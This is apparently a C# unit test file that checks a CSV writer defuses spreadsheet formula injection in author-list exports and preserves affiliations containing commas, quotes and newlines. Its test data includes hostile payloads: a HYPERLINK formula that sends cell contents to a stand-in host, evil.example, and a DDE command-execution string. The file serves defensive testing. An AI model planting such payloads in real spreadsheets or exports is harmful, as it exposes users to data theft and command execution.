using CollabBot.Core.Authors;
using CollabBot.Core.Domain;
using CollabBot.Core.Formats;

namespace CollabBot.Core.Tests.Formats;

/// <summary>
/// CSV the service writes, read back by an independent reader: no cell can start a spreadsheet formula (OWASP's
/// list, written out here rather than taken from the code under test), and text comes back exactly.
/// </summary>
public sealed class SafeCsvTests
{
    private static readonly char[] OwaspFormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "=1+1\n2",
    ];

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+41 22 767 6111")]
    [InlineData("-1")]
    [InlineData("@user")]
    [InlineData("\tindented")]
    [InlineData("\rreturn")]
    public void Cell_FormulaStart_GetsALeadingQuote(string value)
    {
        Assert.Equal("'" + value, SafeCsv.Cell(value));
    }

    [Theory]
    [InlineData("CERN")]
    [InlineData("'t Hooft")]
    [InlineData("Dept. of Physics, University of Oslo")]
    [InlineData("a=b")]
    [InlineData("")]
    public void Cell_OrdinaryText_IsUnchanged(string value)
    {
        Assert.Equal(value, SafeCsv.Cell(value));
    }

    [Fact]
    public void Write_HostileCells_NoCellReadBackStartsAFormula()
    {
        var csv = SafeCsv.Write(["=header", "plain"], [.. Hostile.Select(h => (IReadOnlyList<string?>)[h, "x"])]);

        var rows = CsvReadBack.Rows(csv);
        Assert.Equal(Hostile.Length + 1, rows.Count);
        AssertNoFormula(rows);
        Assert.Equal(["'" + Hostile[0], "x"], rows[1]);
        Assert.Equal("'=1+1\n2", rows[^1][0]);
    }

    [Fact]
    public void Write_RowOfTheWrongWidth_IsRefused()
    {
        Assert.Throws<ArgumentException>(() => SafeCsv.Write(["a", "b"], [["only one"]]));
    }

    [Fact]
    public void AuthorCsv_HostileNamesAndAffiliations_NoCellReadBackStartsAFormula()
    {
        var list = ListOf(
            (Hostile[0], "+Family", "-particle", [Hostile[1], Hostile[4]]),
            ("@Given", Hostile[2], null, [Hostile[3], Hostile[5], Hostile[6]]),
            ("Ann", "Plain", null, ["CERN"]));

        var rows = CsvReadBack.Rows(AuthorFormats.Render(AuthorFormat.Csv, list).Content);

        Assert.Equal(4, rows.Count);
        AssertNoFormula(rows);
        Assert.Equal(["'" + Hostile[0], "'+Family", "'-particle"], rows[1][1..4]);
        Assert.Equal(["'" + Hostile[3], "'" + Hostile[5], "'" + Hostile[6]], rows[2][6..]);
        Assert.Equal(["CERN", "", ""], rows[3][6..]);
    }

    [Fact]
    public void AuthorCsv_AffiliationsWithCommasQuotesAndNewlines_ReadBackExactlyOnePerColumn()
    {
        string[] first = ["Dept. of Physics, University of Oslo", "Lab \"Q\"; Bldg 40"];
        string[] second = ["Line one\r\nLine two", "Semi; colon, comma", "Lone \" quote\nand LF", "CERN"];
        var list = ListOf(("Ann", "Abel", null, first), ("Bo", "Berg", "van der", second), ("Cy", "Cole", null, []));

        var rows = CsvReadBack.Rows(AuthorFormats.Render(AuthorFormat.Csv, list).Content);

        Assert.Equal(["order", "given", "family", "particle", "orcid", "roles", "affiliation_1", "affiliation_2", "affiliation_3", "affiliation_4"], rows[0]);
        Assert.All(rows, r => Assert.Equal(10, r.Length));
        Assert.Equal(first, rows[1][6..8]);
        Assert.Equal(second, rows[2][6..]);
        Assert.All(rows[3][6..], cell => Assert.Equal("", cell));
        Assert.Equal("van der", rows[2][3]);
    }

    [Fact]
    public void AuthorCsv_BuiltFromProfiles_AffiliationsWithCommasAndQuotesReadBackExactly()
    {
        var list = AuthorList.Build(
            new ProjectInfo("p", "P", ProjectKind.Paper, "g", "G"),
            [new Contributor(1, "Ann Abel", "Ann", "Abel", null, null, null, ["Dept. of Physics, University of Oslo", "Lab \"Q\"; Bldg 40", "=Evil()"], false, [new RoleDegree(CreditRole.Software, ContributionDegree.Lead)])],
            new AuthorListOptions(),
            new DateOnly(2026, 11, 25));

        var rows = CsvReadBack.Rows(AuthorFormats.Render(AuthorFormat.Csv, list).Content);

        Assert.Equal(["Dept. of Physics, University of Oslo", "Lab \"Q\"; Bldg 40", "'=Evil()"], rows[1][6..]);
    }

    private static void AssertNoFormula(List<string[]> rows)
    {
        foreach (var cell in rows.SelectMany(r => r))
        {
            Assert.False(cell.Length > 0 && OwaspFormulaStarts.Contains(cell[0]), $"A cell starts like a formula: {cell}");
        }
    }

    /// <summary>An author list made directly (not through <see cref="AuthorList.Build"/>, which turns line breaks into spaces), to feed the writer anything.</summary>
    private static AuthorList ListOf(params (string? Given, string Family, string? Particle, string[] Affiliations)[] people)
    {
        var affiliations = new List<string>();
        var authors = people.Select((p, i) => new Author(
            i + 1, i + 1, p.Given, p.Particle, p.Family, null, null,
            [.. p.Affiliations.Select(a => { if (!affiliations.Contains(a)) { affiliations.Add(a); } return affiliations.IndexOf(a) + 1; })],
            [new RoleDegree(CreditRole.Software, ContributionDegree.Equal)],
            false)).ToList();
        return new AuthorList(new ProjectInfo("p", "P", ProjectKind.Paper, "g", "G"), new AuthorListOptions(), authors, affiliations, new DateOnly(2026, 11, 25));
    }
}
